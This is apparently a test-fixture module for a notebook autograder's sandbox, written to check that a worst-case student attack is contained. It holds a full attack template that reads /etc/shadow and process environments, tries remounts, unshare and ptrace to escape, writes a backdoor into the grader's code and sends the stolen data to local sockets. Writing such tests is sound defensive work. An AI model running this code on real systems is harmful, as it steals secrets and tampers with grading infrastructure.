"""Attack code that a hostile student puts in a notebook cell, as strings to build notebooks from.

Each attack knows the real host paths (the worst case: a student who guessed them) and does its
best to carry whatever it reads out of the sandbox: printed (the log), raised (the gradebook
message), written into its check() results, and sent to every socket it can reach.
"""

from __future__ import annotations

import json

# Everything a root student did to the old sandbox, and more: read the hidden places, remount,
# unshare, trace, load BPF, write into the grader's own code, exfiltrate over sockets.
ESCAPE = r'''
import ctypes, json, os, socket, subprocess
TARGETS = json.loads({targets!r})
loot = []
def grab(path, keep=True):
    try:
        with open(path, "rb") as f:
            text = f.read(4096).decode("utf-8", "replace")
        print("READ", path, text if not keep else "")
        if keep:
            loot.append(text)
    except Exception as exc:
        print("no read", path, type(exc).__name__)
for path in TARGETS["files"]:
    grab(path)
for folder in TARGETS["folders"]:
    try:
        for name in os.listdir(folder):
            grab(os.path.join(folder, name))
    except Exception as exc:
        print("no list", folder, type(exc).__name__)
for path in ("/proc/1/cmdline", "/proc/self/mountinfo", "/proc/1/environ"):
    grab(path, keep=False)  # what the sandbox may know about itself: printed, checked outside
grab("/etc/shadow")
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, call):
    result = call()
    print("syscall", name, result, os.strerror(ctypes.get_errno()) if result == -1 else "OK")
attempt("umount2", lambda: libc.umount2(b"/tmp", 2))
attempt("mount", lambda: libc.mount(b"none", b"/usr", b"", 32 | 4096, None))  # MS_REMOUNT|BIND
attempt("unshare", lambda: libc.unshare(0x00020000 | 0x10000000))  # CLONE_NEWNS | NEWUSER
attempt("ptrace", lambda: libc.ptrace(16, 1, 0, 0))  # PTRACE_ATTACH to pid 1
for cmd in (["umount", "-l", "/tmp"], ["unshare", "-m", "--", "sh", "-c", "mount -o remount,rw /"],
            ["unshare", "-U", "-r", "id"]):
    try:
        done = subprocess.run(cmd, capture_output=True, text=True, timeout=5)
        print("command", cmd[0], done.returncode, done.stderr.strip()[:200])
    except Exception as exc:
        print("command", cmd[0], type(exc).__name__)
for path in TARGETS["writable"]:
    try:
        with open(path, "a") as f:
            f.write("\n# backdoor\nPARTS = []\n")
        print("WROTE", path)
    except Exception as exc:
        print("no write", path, type(exc).__name__)
for address in TARGETS["sockets"]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address.replace("@", "\0", 1) if address.startswith("@") else address)
        s.sendall(("LOOT " + " ".join(loot)).encode()[:4000])
        print("CONNECTED", address)
    except Exception as exc:
        print("no socket", address, type(exc).__name__)
print("LOOT:", " | ".join(loot)[:20000])
if loot:
    raise RuntimeError("LOOT " + " | ".join(loot)[:20000])
'''


def escape(files: list[str], folders: list[str], writable: list[str], sockets: list[str]) -> str:
    """The escape attack as cell source (abstract socket names start with '@')."""
    targets = json.dumps({"files": files, "folders": folders, "writable": writable,
                          "sockets": sockets})
    return ESCAPE.replace("{targets!r}", repr(targets))
